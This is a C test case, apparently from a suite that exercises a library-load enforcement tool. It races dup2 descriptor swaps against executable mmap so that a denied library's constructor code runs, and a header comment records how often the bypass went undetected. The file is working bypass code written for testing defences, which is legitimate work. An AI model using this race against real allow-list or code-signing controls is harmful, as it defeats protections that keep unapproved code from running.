/* The descriptor is replaced by dup2 while its file is mapped executable, 500 times: the one is judged, the other mapped.
 *
 * seen: load
 * enforce: missed
 * race: yes
 * window: 22 runs of 500 tries: won in 21, of which 15 were found out, 4 seen only, 2 missed
 */
#include "attack.h"
#include "load/mapped.h"

static int good, bad;

static void *swap(void *unused) {
    for (;;) {
        dup2(bad, 100);
        dup2(good, 100);
    }
    return unused;
}

void attack(void) {
    size_t size = length(given("DENIED_LIBRARY")), at = constructor_in(given("DENIED_LIBRARY"));
    char *wanted = malloc(64);
    good = open(given("ALLOWED_LIBRARY"), O_RDONLY);
    bad = open(given("DENIED_LIBRARY"), O_RDONLY);
    pread(bad, wanted, 64, (off_t)at);
    dup2(good, 100);
    beside(swap, NULL);
    for (int i = 0; i < 500; i++) {
        char *code = mmap(NULL, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, 100, 0);
        if (code == MAP_FAILED)
            continue;
        if (memcmp(code + at, wanted, 64) == 0)
            run_code(code, at);
        munmap(code, size);
    }
}
